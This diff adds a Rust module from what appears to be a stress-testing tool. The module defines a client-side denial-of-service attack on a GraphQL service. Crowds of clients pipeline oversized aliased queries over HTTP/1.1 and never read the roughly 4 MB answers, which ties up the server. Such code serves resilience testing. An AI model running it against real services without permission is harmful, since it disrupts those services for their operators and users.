@@ -1,0 +1,47 @@
+//! Clients that ask for long answers over HTTP/1.1, and do not read them.
+
+use std::fmt::Write;
+
+use crate::Aim;
+use crate::attack::Attack;
+use crate::attack::Class;
+
+/// The attack.
+pub(super) const ATTACK: Attack = Attack::new(
+    Class::Client,
+    "clients that do not read",
+    "answers of 4 MB that nobody reads, over HTTP/1.1",
+    |aim| Box::pin(run(aim)),
+);
+
+/// An operation with a long answer, another one for each number.
+pub(super) fn long(number: u64) -> String {
+    let mut query = String::from("{ ");
+    let first = 201 + number % 100;
+    for alias in 0..40 {
+        let _ = write!(
+            query,
+            "a{alias}: umangServices(first: {first}) {{ items {{ id name category languages platforms popularity publisher {{ id name }} }} }} "
+        );
+    }
+    query.push('}');
+    crate::wire::operation(&query)
+}
+
+async fn run(aim: Aim) {
+    let client = async |aim: Aim, number: u64| {
+        let mut round = 0;
+        while aim.goes_on(round) {
+            let mut wire = aim.connect().await?;
+            let request = wire.request(&long(number));
+            // What is pipelined is answered one after the other.
+            for _ in 0..4 {
+                wire.send(&request).await?;
+            }
+            aim.until_end().await;
+            round += 1;
+        }
+        Ok(())
+    };
+    aim.crowd(client).await;
+}
